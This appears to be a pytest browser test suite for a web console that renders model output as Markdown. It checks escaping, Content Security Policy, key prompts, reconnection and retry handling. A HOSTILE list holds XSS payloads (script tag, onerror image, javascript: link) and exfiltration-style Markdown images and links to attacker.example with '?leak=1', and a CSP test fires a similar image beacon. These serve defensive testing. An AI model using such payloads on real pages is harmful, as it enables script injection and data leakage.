"""What the page does when it is refused, cut off from the network, or lied to by a model."""

import pytest

from tests.keys.keyed import made
from tests.upstream.faults import HoldAfter, Status
from tests.vendors.running import serve_vendors
from tests.web.conftest import NETWORK
from tests.web.tcp_proxy import TcpProxy

HOSTILE = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "[a link](javascript:window.broken=1)",
    "![a picture](https://attacker.example/?leak=1)",
    "[another](http://attacker.example)",
    'id: 99\ndata: {"type":"complete"}',
    'data: {"type":"stopped"}',
    "\u202eevil \x1b[31m",
]


SHOW = """
const [text] = arguments;
const { Markdown } = await import(new URL("web/console/markdown.js", document.baseURI));
const { h, render } = await import("preact");
const place = document.body.appendChild(document.createElement("div"));
render(h(Markdown, { text }), place);
await new Promise((resolve) => setTimeout(resolve));
const made = [...place.querySelectorAll("*")].map((e) => e.localName);
return [place.textContent, made, window.broken ?? null, place.querySelector("a")?.href ?? null];
"""


@pytest.mark.parametrize("text", HOSTILE)
def test_a_models_words_are_shown_as_they_are_and_do_nothing(desk, text):
    desk.browser.element("main h1")
    shown, made, broken, _ = desk.browser.run(SHOW, f"before {text} after")
    assert shown == f"before {text} after"
    assert set(made) <= {"div", "p"}
    assert broken is None


def test_a_leads_own_words_are_shown_as_they_are_and_do_nothing(desk, house):
    notes = "\n".join(HOSTILE)
    assert house.http.post("/api/leads", json={"id": "hostile", "notes": notes}).is_success
    desk.open("#/leads/hostile")
    desk.choose("growth").start()
    desk.sees("Done")
    shown = desk.browser.run("return document.querySelector('.record blockquote').textContent")
    assert shown.strip() == notes
    assert (
        desk.browser.run("return document.querySelectorAll('.run :is(a, img, script)').length") == 0
    )
    assert desk.browser.run("return window.broken ?? null") is None


def test_the_markdown_that_is_shown_is_paragraphs_lists_bold_code_and_https(desk):
    text = "# A\n\n- one\n- **two**\n\n1. x\n\nSee `y` at [us](https://us.example/a).\n\n```\n**z**\n```"
    shown, made, _, link = desk.browser.run(SHOW, text)
    assert made[1:] == [
        "h4",
        "ul",
        "li",
        "li",
        "strong",
        "ol",
        "li",
        "p",
        "code",
        "a",
        "small",
        "pre",
        "code",
    ]
    assert link == "https://us.example/a"
    assert "us (us.example)" in shown
    assert shown.endswith("**z**")


def test_the_net_that_catches_a_breach_of_the_policy_has_no_hole(at, house):
    desk = at(house.url).open()
    desk.browser.run(
        """document.body.appendChild(new Image()).src = "https://attacker.example/?leak=1";
           try { document.body.innerHTML = "<i>" } catch { console.error("no markup") }"""
    )
    said = " ".join(desk.browser.complaints())
    assert "violates the following Content Security Policy directive" in said
    assert "TrustedHTML" in said
    assert "no markup" in said


@pytest.fixture(scope="module")
def keyed(vendors, tmp_path_factory):
    """A server that wants a key and gives it one stream at a time."""
    folder = tmp_path_factory.mktemp("keyed")
    key = made(folder, "mine")["mine"]
    settings = {"providers": "claude", "max_streams_per_client": 1}
    with serve_vendors(folder, vendors.env(), **settings) as server:
        server.key = key
        server.http.headers["Authorization"] = f"Bearer {key}"
        assert server.http.post("/api/leads/demo").status_code == 201
        yield server


def test_who_has_no_key_is_asked_for_one_and_a_wrong_one_is_not_taken(at, keyed, vendors):
    desk = at(keyed.url).open("#/leads/demo_01")
    desk.expected += [NETWORK]
    desk.sees("A key, please", "body")
    desk.browser.type("#key", "ls_wrong")
    desk.browser.click("button", "Go on")
    desk.sees("not accepted", "body")
    desk.browser.run("document.querySelector('#key').select()")
    desk.browser.type("#key", keyed.key)
    desk.browser.click("button", "Go on")
    vendors.says("claude", ["With ", "a key."])
    desk.ask()
    desk.sees("With a key.")
    desk.sees("Done")
    desk.browser.click("button", "Copy as curl")
    assert keyed.key not in desk.sees("Bearer $LEADSTREAM_KEY", ".snippet")
    desk.open()
    desk.sees("Dana Okafor", ".side")


def test_a_server_that_is_full_is_waited_for_with_a_countdown(at, keyed, vendors):
    with TcpProxy(keyed.port) as wire:
        desk = at(wire.url).open()
        desk.browser.run("sessionStorage.setItem('leadstream.key', arguments[0])", keyed.key)
        desk.open("#/leads/demo_01")
        desk.expected += [NETWORK]
        vendors.says("claude", ["At ", "last."])
        vendors.fails("claude", HoldAfter(1))
        first = keyed.start("hello", detach=True)
        desk.ask()
        desk.sees("again in 2 s")
        assert len(wire.asked("/api/agents/conversation/stream")) == 1
        keyed.stop(first["stream_id"])
        desk.sees("Done")
        assert desk.words().endswith("At last.")


def test_offline_is_waited_out(at, wire, vendors):
    desk = at(wire.url).open("#/leads/demo_01")
    desk.expected += [NETWORK]
    vendors.says("claude", ["One ", "two ", "three."])
    vendors.fails("claude", HoldAfter(1))
    desk.ask()
    desk.sees("One", ".words")
    network = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
    desk.browser.devtools("Network.enable")
    desk.browser.devtools("Network.emulateNetworkConditions", offline=True, **network)
    try:
        wire.cut()
        desk.sees("Reconnecting, nothing is lost")
        vendors.release()
    finally:
        desk.browser.devtools("Network.emulateNetworkConditions", offline=False, **network)
    desk.sees("Done")
    assert desk.words().endswith("One two three.")


def test_a_vendors_failure_is_told_in_words_and_may_be_tried_again(desk, vendors):
    vendors.says("claude", ["Well ", "again."])
    vendors.fails("claude", *[Status(500)] * 3)
    desk.ask()
    desk.sees("It did not work")
    assert desk.browser.run("return document.querySelector('.run [role=alert]').innerText")
    desk.browser.click("button", "Try again")
    desk.sees("Well again.")
    desk.sees("Done")
